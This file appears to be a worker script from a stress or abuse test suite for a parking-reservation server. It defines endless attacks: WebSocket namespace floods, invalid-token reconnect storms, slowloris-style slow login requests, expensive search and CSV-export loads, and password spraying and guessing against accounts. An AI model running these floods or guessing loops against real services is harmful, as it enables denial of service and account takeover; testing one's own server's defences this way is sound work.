// One attacker with its own thread and address, until the thread is ended.
import { once } from 'node:events';
import { connect } from 'node:net';
import { workerData } from 'node:worker_threads';
import { Agent, request } from 'undici';
import { WebSocket } from 'ws';
import { CARRIER, WRONG, logIn, logInWorking } from './logins.mjs';
import { tomorrow } from './stores.mjs';

const { attack, url, localAddress, token, ownerToken, victim, own } = workerData;
const { hostname, port } = new URL(url);
const dispatcher = new Agent({ localAddress });
/** Of an attacker who opens as many as a network may. */
const CONNECTIONS = 1000;

/** Opens so many connections, each again a moment after it ends. */
function connectTimes(count, open) {
  const again = () => {
    const socket = open();
    socket.on('error', () => undefined);
    socket.on('close', () => setTimeout(again, 50));
  };
  for (let n = 0; n < count; n += 1) again();
}

const webSocket = () =>
  new WebSocket(`${url}/socket.io/?EIO=4&transport=websocket`, {
    localAddress,
    perMessageDeflate: false,
  });

/** Asks for unknown namespaces as fast as the connection takes it, and never reads an answer. */
function flood(greeting) {
  const socket = webSocket();
  const pour = (error) => {
    if (error) return;
    for (let n = 1; n < 500; n += 1) socket.send(`40/nada${n},`);
    socket.send('40/nada0,', pour);
  };
  return socket.on('open', () => {
    socket.pause();
    if (greeting) socket.send(greeting);
    setTimeout(pour, 200);
  });
}

const readAll = (body) => body.arrayBuffer();

/** Some kilobytes each second. */
async function readSlowly(body) {
  const timer = setInterval(() => body.read(4096), 1000);
  await once(body, 'close').finally(() => clearInterval(timer));
}

/** One call; resolves when its answer has been read in whole, or failed. */
const ask = (path, headers, read = readAll) =>
  request(`${url}/api${path}`, { dispatcher, headers })
    .then(({ body }) => read(body))
    .catch(() => undefined);

/** Runs `count` tasks at once and repeats each, without end. */
function forever(count, run) {
  for (let client = 0; client < count; client += 1)
    void (async () => {
      for (let n = 0; ; n += 1) await run(n, client);
    })();
}

/** Reads every list by turns. */
const readLists = (clients, paths, headers) =>
  forever(clients, (n) => ask(paths[n % paths.length], { 'accept-encoding': 'br', ...headers }));

const asDriver = { authorization: token };
const OF_DRIVER = ['stays?limit=500', 'confirmaciones', 'booking', 'parkings'].map(
  (list) => `/documents/${list}`,
);
const asOwner = { authorization: ownerToken };
const OF_OWNER = ['/parking/reservations', '/parking/reservations?page=5', '/parking/my-parkings'];
const asSheet = { ...asOwner, accept: 'text/csv' };

const ATTACKS = {
  sockets() {
    connectTimes(20, () => flood(`40${JSON.stringify({ token })}`));
    connectTimes(100, () => flood());
  },
  /** Invalid tokens; who is refused connects again. */
  junk() {
    connectTimes(CONNECTIONS, () => {
      const socket = webSocket();
      socket.on('open', () => socket.send('40{"token":"x.y.z"}'));
      // Socket.IO's refusal of the connection.
      return socket.on('message', (said) => String(said).startsWith('44') && socket.terminate());
    });
  },
  /** The headers of a login and then one byte a second. */
  slow() {
    const head = `POST /api/session/login HTTP/1.1\r\nhost: ${hostname}:${port}\r\n`;
    connectTimes(CONNECTIONS, () => {
      const socket = connect({ host: hostname, port: Number(port), localAddress });
      socket.write(`${head}content-type: application/json\r\ncontent-length: 1000\r\n\r\n{`);
      const timer = setInterval(() => socket.write(' '), 1000);
      return socket.on('close', () => clearInterval(timer));
    });
  },
  /** Most parkings, longest stay, sorted; every other one with words. */
  expensive() {
    const stay = `start_time=${tomorrow(0)}&end_time=${tomorrow(30 * 24)}`;
    const path = `/parking/available?near=14.6,-90.5&${stay}`;
    forever(50, (n) => ask(n % 2 ? `${path}&search=a+e+q+u+v+0` : path, asDriver));
  },
  lists: () => readLists(12, OF_DRIVER, asDriver),
  sheets() {
    readLists(12, OF_OWNER, asOwner);
    // The server produces two spreadsheets at a time at most.
    readLists(2, OF_OWNER.slice(0, 1), asSheet);
  },
  /** Spreadsheets of which some kilobytes are taken each second. */
  csv: () => forever(50, () => ask(OF_OWNER[0], asSheet, readSlowly)),
  /**
   * Passwords at many accounts from one carrier's address; at one account from everywhere, as fast as possible and
   * with the proofs that refusals demand; from one site; and logins of many known devices of the guesser.
   */
  guesses() {
    const guess = (mail, address) => ({ mail, address, password: WRONG });
    let n = 0;
    setInterval(() => {
      n += 1;
      void logIn(url, guess(`nadie${n}@ejemplo.gt`, CARRIER));
      void logIn(url, guess(victim, `198.51.${n % 200}.7`));
    }, 100);
    // Each from its own network within the site.
    forever(60, (_, place) =>
      logIn(url, guess(`sitio${place}.${n}@ejemplo.gt`, `2001:db8:77:${place.toString(16)}::1`)),
    );
    // Each proof costs a tenth of a second of a core.
    forever(2, (_, place) => logInWorking(url, guess(victim, `198.52.${n % 200}.${place}`)));
    // The right passwords, so that no failure counts against the devices.
    forever(own.length, (_, place) => logIn(url, { ...own[place], address: CARRIER }));
  },
};
ATTACKS[attack]();
